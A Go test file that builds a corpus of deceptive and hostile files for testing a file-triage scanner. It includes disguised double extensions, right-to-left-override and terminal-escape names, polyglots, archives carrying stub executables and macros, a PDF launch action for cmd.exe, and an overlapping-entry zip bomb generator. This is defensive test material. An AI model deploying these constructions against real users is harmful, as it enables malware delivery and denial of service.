package triagetest

import (
	"archive/zip"
	"bytes"
	"fmt"
	"hash/crc32"
	"strings"

	"estran/session"
)

// disguises are what says it is something else.
func disguises() []Entry {
	page := text("<!DOCTYPE html><html><body><form action=\"http://malin.example\"><input name=motdepasse></form></body></html>")
	return []Entry{
		hostile("photo.jpg.exe", "a program with two ends", pe, program, twoEnds),
		hostile("photo.jpg                                                  .exe", "the same with room in between", pe, program, twoEnds),
		hostile("lettre.docx.lnk", "a shortcut with two ends", func() []byte { return lnk("/c x") }, shortcut, twoEnds),
		hostile("facture.pdf.js", "a script with two ends", text("new ActiveXObject('WScript.Shell').Run('calc');\r\n"), program, twoEnds),
		hostile("avis.pdf.msi", "an installer with two ends", msi, installs, twoEnds),
		hostile("photo de classe.jpg", "a program that says it is a picture", pe, program, mismatch),
		hostile("liste de notes.txt", "a Linux program that says it is a text", elf, program, mismatch),
		hostile("facture.pdf", "a page that says it is a document", page, mismatch),
		hostile("photo.png", "a page that says it is a picture", page, mismatch),
		hostile("vacances.jpg", "an archive that says it is a picture", func() []byte { return zipped(file("a.jpg", jpegOf(20, 20))) }, mismatch),
		hostile("lettre de Zoé.docx", "a picture that says it is a document", func() []byte { return jpegOf(60, 40) }, mismatch),
		hostile("photo\u202egpj.exe", "letters turned round: it shows as « photoexe.jpg »", pe, program, hidden),
		hostile("facture\u202efdp.scr", "the same with a screen saver", pe, program, hidden),
		hostile("rapport\u2066x\u2069.pdf", "an isolate in a name", func() []byte { return pdf{}.build() }, hidden),
		hostile("a\nb.txt", "a line break in a name", text("bonjour\n"), hidden),
		hostile("a\x1b]52;c;eA==\x07.txt", "an order for a terminal in a name", text("bonjour\n"), hidden),
	}
}

// polyglots are good for two things at once.
func polyglots() []Entry {
	const both = session.ReasonPolyglot
	jar := func() []byte {
		return zipped(p("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: A\r\n"), file("A.class", join([]byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"), noise(83, 200))))
	}
	return []Entry{
		hostile("chat.gif", "a picture and a program in Java: GIFAR (2008)", func() []byte { return join(gifOf(20, 20), jar()) }, both, inside, program),
		hostile("paysage.jpg", "a picture and an archive", func() []byte { return join(jpegOf(60, 40), zipped(file("a.exe", pe()))) }, both, inside, program),
		hostile("plage.jpg", "a picture and a RAR archive", func() []byte { return join(jpegOf(60, 40), rarred(false, file("a.exe", pe()))) }, both),
		hostile("ecran.png", "a picture and an archive", func() []byte { return join(pngOf(60, 40), zipped(file("a.js", []byte("x")))) }, both, inside, program),
		hostile("contrat et archive.pdf", "a document and an archive behind it", func() []byte { return join(pdf{}.build(), zipped(file("a.exe", pe()))) }, both, inside, program),
		hostile("notice et page.pdf", "a page and a document: browsers and readers see one each", func() []byte {
			return pdf{before: "<html><body><script>location='http://malin.example'</script><!--\n"}.build()
		}, both),
		unknown("deux archives.zip", "two archives: programs open the one or the other", func() []byte {
			return join(zipped(file("a.jpg", jpegOf(20, 20))), zipped(file("b.txt", []byte("bonjour"))))
		}, session.ReasonDamaged),
		hostile("programme et document.pdf", "a Windows program that readers of PDF open", func() []byte {
			b := pe()
			copy(b[64:], "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n")
			return b
		}, both),
	}
}

// hostileArchives hold what does harm, or hide that they do.
func hostileArchives() []Entry {
	return []Entry{
		hostile("photos du jeu.zip", "a program among the photos", func() []byte { return zipped(file("photo.jpg", jpegOf(40, 30)), file("photos.exe", pe())) }, inside, program),
		hostile("dossier imbriqué.zip", "an archive in an archive with a script", func() []byte {
			return zipped(file("a/b.zip", zipped(p("facture.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"\r\n"))))
		}, inside, program),
		hostile("cle.zip", "a key that starts by itself", func() []byte { return zipped(p("AUTORUN.INF", "[autorun]\r\nopen=a.exe\r\n")) }, inside, session.ReasonAutorun, program),
		hostile("cv.zip", "a shortcut with two ends", func() []byte { return zipped(file("cv.pdf.lnk", lnk("/c x"))) }, inside, shortcut, twoEnds),
		hostile("devis.zip", "a document with macros", func() []byte {
			return zipped(file("devis.docm", docm(rel("rId2", "vbaProject", "vbaProject.bin"), file("word/vbaProject.bin", vbaBin()))))
		}, inside, macros),
		hostile("factures.tar.gz", "a program", func() []byte { return gzipped("factures.tar", tarred(file("facture.pdf.exe", pe()))) }, inside, program, twoEnds),
		hostile("outil.7z", "a program in 7-Zip", func() []byte { return sevenZipped(false, file("outil.exe", pe())) }, inside, program),
		hostile("outil.rar", "a program in RAR", func() []byte { return rarred(false, file("outil.exe", pe())) }, inside, program),
		hostile("outil ancien.rar", "a program in an old RAR", func() []byte { return rarredOld(false, file("outil.exe", pe())) }, inside, program),
		hostile("logiciel.tar.xz", "a program", func() []byte { return xzed(tarred(file("setup.exe", pe()))) }, inside, program),
		hostile("logiciel.gz", "a program, packed", func() []byte { return gzipped("logiciel.exe", pe()) }, inside, program),
		hostile("plan.tar", "a PDF that is active", func() []byte {
			return tarred(file("plan.pdf", pdf{catalog: "/OpenAction<</S/Launch/F(cmd.exe)>>"}.build()))
		}, inside, session.ReasonActivePDF),
		hostile("message.eml", "a message with a program", func() []byte {
			return []byte("From: a@b.fr\r\nSubject: facture\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/octet-stream; name=\"facture.exe\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"facture.exe\"\r\n\r\n" + wrapped(base64Of(pe())) + "--b--\r\n")
		}, inside, program),
		hostile("convocation.eml", "a message with a document with macros", func() []byte {
			m := docm(rel("rId2", "vbaProject", "vbaProject.bin"), file("word/vbaProject.bin", vbaBin()))
			return []byte("From: a@b.fr\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename*=UTF-8''convocation.docm\r\n\r\n" + wrapped(base64Of(m)) + "--b--\r\n")
		}, inside, macros),
		hostile("images.zip", "letters turned round in a name of an archive", func() []byte { return zipped(file("photo\u202egpj.exe", pe())) }, inside, program, hidden),
		unknown("deux listes.zip", "two names for one file: programs that read from the start see a program", func() []byte {
			b := zipped(p("a.txt", "bonjour"))
			copy(b[30:], "a.bat")
			return b
		}, session.ReasonDamaged),
		unknown("poupées.zip", "ten archives in one another: a program would not be seen", func() []byte {
			b := zipped(p("a.txt", "bonjour"))
			for i := range 10 {
				b = zipped(file(fmt.Sprintf("%d.zip", i), b))
			}
			return b
		}, session.ReasonArchiveLimits, inside),
		unknown("myriade.zip", "more files than are looked at", func() []byte {
			var many []part
			for i := range 10_001 {
				many = append(many, p(fmt.Sprintf("%05d.txt", i), "x"))
			}
			return zipped(many...)
		}, session.ReasonArchiveLimits),
		unknown("méthode.zip", "packed in a way that nobody here unpacks (method 98)", func() []byte {
			return zippedAs(func(h *zip.FileHeader) { h.Method = 98 }, p("a.txt", strings.Repeat("bonjour", 30)))
		}, session.ReasonNotOpened),
	}
}

// closedFiles hide what they hold behind a password: what is in them is not known.
func closedFiles() []Entry {
	const closed = session.ReasonEncrypted
	office := func() []byte {
		return cfbFile(nil, file("EncryptionInfo", join(le16(4), le16(4), le32(0x40), []byte(`<?xml version="1.0"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>`))),
			file("EncryptedPackage", join(le64(9000), noise(91, 9008))), file("\x06DataSpaces/Version", make([]byte, 76)))
	}
	return []Entry{
		unknown("ouvrez-moi.docx", "a Word document with a password", office, closed),
		unknown("salaires.xlsx", "a workbook with a password", office, closed),
		unknown("secret.doc", "a Word 97 document with a password", func() []byte {
			b := fib(fibTable1 | fibEncrypted)
			return cfbFile(nil, file("WordDocument", b), file("1Table", noise(92, 4200)))
		}, closed),
		unknown("secret.xls", "an Excel 97 workbook with a password", func() []byte {
			return xls(biff(0x2f, le16(1), le16(1), le16(1), noise(93, 48)))
		}, closed),
		unknown("secret.odt", "an OpenDocument with a password", odfLocked, closed),
		unknown("secret.zip", "an archive with a password", func() []byte { return locked(p("a.exe.txt", "xxxxxxxxxxxxxxxxxxxxxxxxxx")) }, closed),
		unknown("secret aes.zip", "the same, AES (method 99)", func() []byte {
			return zippedAs(func(h *zip.FileHeader) {
				h.Method, h.Flags = 99, 1
				h.Extra = []byte("\x01\x99\x07\x00\x02\x00AE\x03\x08\x00")
			}, file("a.pdf", noise(94, 300)))
		}, closed),
		unknown("secret.7z", "7-Zip with a password", func() []byte { return sevenZipped(true, file("a.pdf", noise(95, 300))) }, closed),
		unknown("secret.rar", "RAR with a password", func() []byte { return rarred(true, file("a.pdf", noise(96, 300))) }, closed),
		unknown("secret ancien.rar", "an old RAR with a password", func() []byte { return rarredOld(true, file("a.pdf", noise(97, 300))) }, closed),
		unknown("lettre.txt.gpg", "a letter in an envelope", func() []byte { return join([]byte("\x85\x01\x0c\x03"), noise(98, 300)) }, closed),
		unknown("dossier de la banque.zip", "a PDF with a password in an archive", func() []byte {
			return zipped(file("releve.pdf", pdf{
				trailer: "/Encrypt 7 0 R",
				objects: []string{"<</Filter/Standard/V 2/R 3/Length 128/P -1084/O<" + strings.Repeat("4f", 32) + ">/U<" + strings.Repeat("55", 32) + ">>>"},
			}.build()))
		}, closed, inside),
	}
}

// brokenFiles cannot be read to their end.
func brokenFiles() []Entry {
	const damaged = session.ReasonDamaged
	half := func(b []byte) []byte { return b[:len(b)/2] }
	return []Entry{
		unknown("coupé.zip", "a copy that was cut", func() []byte { return half(zipped(file("a.jpg", jpegOf(80, 60)), file("b.jpg", jpegOf(80, 60)))) }, damaged),
		unknown("coupé.docx", "a copy that was cut", func() []byte { return half(docx(para("x"), "", file("word/media/a.jpg", jpegOf(80, 60)))) }, damaged),
		unknown("coupé.pdf", "a copy that was cut", func() []byte {
			return half(pdf{objects: []string{streamOf("/Type/XObject/Subtype/Image/Filter/DCTDecode", jpegOf(160, 120))}}.build())
		}, damaged),
		unknown("coupé.7z", "a copy that was cut", func() []byte { return half(sevenZipped(false, file("a.jpg", jpegOf(80, 60)))) }, damaged),
		unknown("coupé.tar.gz", "a copy that was cut", func() []byte { return half(gzipped("a.tar", tarred(file("a.jpg", jpegOf(80, 60))))) }, damaged),
		unknown("coupé.doc", "a copy that was cut", func() []byte { return half(doc()) }, damaged),
		unknown("faux contenu.zip", "the checksum of a file is wrong", func() []byte {
			b := zipped(p("a.txt", "bonjour"))
			at := bytes.Index(b, []byte("PK\x01\x02"))
			b[at+16] ^= 1
			return b
		}, damaged),
	}
}

// bombs fill the memory of whoever unpacks them.
func bombs() []Entry {
	const bomb = session.ReasonBomb
	return []Entry{
		hostile("42.zip", "a file of zeros: a thousand times as large once unpacked", func() []byte { return zipped(part{name: "a.txt", zeros: 160}) }, bomb),
		hostile("bombe.gz", "the same with gzip", func() []byte { return gzippedZeros(160) }, bomb),
		hostile("bombe.docx", "the same in a document", func() []byte { return docx(para("x"), "", part{name: "word/media/a.bmp", zeros: 160}) }, bomb),
		hostile("bombe de bombes.zip", "an archive of archives of zeros", func() []byte {
			b := zipped(part{name: "a.bin", zeros: 160})
			return zipped(file("1.zip", b), file("2.zip", b))
		}, bomb, inside),
		hostile("recouverte.zip", "many names for the same bytes: they are unpacked each time (Fifield, WOOT 2019)", overlapping, bomb),
		unknown("filtres.pdf", "a stream that is packed many times over", func() []byte {
			data, filters := []byte("BT (x) Tj ET"), ""
			for range 60 {
				data, filters = zlibbed(data), filters+"/FlateDecode"
			}
			return pdf{packed: true, objects: []string{streamOf("/Type/ObjStm/N 1/First 4/Filter["+filters+"]", data)}}.build()
		}, session.ReasonTooComplex),
	}
}

// overlapping is an archive whose directory names the same file 2000 times: 1 MiB each time.
func overlapping() []byte {
	data := make([]byte, 1<<20)
	raw := deflated(data)
	sum := crc32.ChecksumIEEE(data)
	name := "a"
	local := join([]byte("PK\x03\x04"), le16(20), le16(0), le16(8), le32(0), le32(int(sum)), le32(len(raw)), le32(len(data)), le16(len(name)), le16(0), []byte(name), raw)
	var directory []byte
	const count = 2000
	for range count {
		directory = join(directory, []byte("PK\x01\x02"), le16(20), le16(20), le16(0), le16(8), le32(0), le32(int(sum)), le32(len(raw)), le32(len(data)),
			le16(len(name)), make([]byte, 12), le32(0), []byte(name))
	}
	return join(local, directory, []byte("PK\x05\x06"), le32(0), le16(count), le16(count), le32(len(directory)), le32(len(local)), le16(0))
}
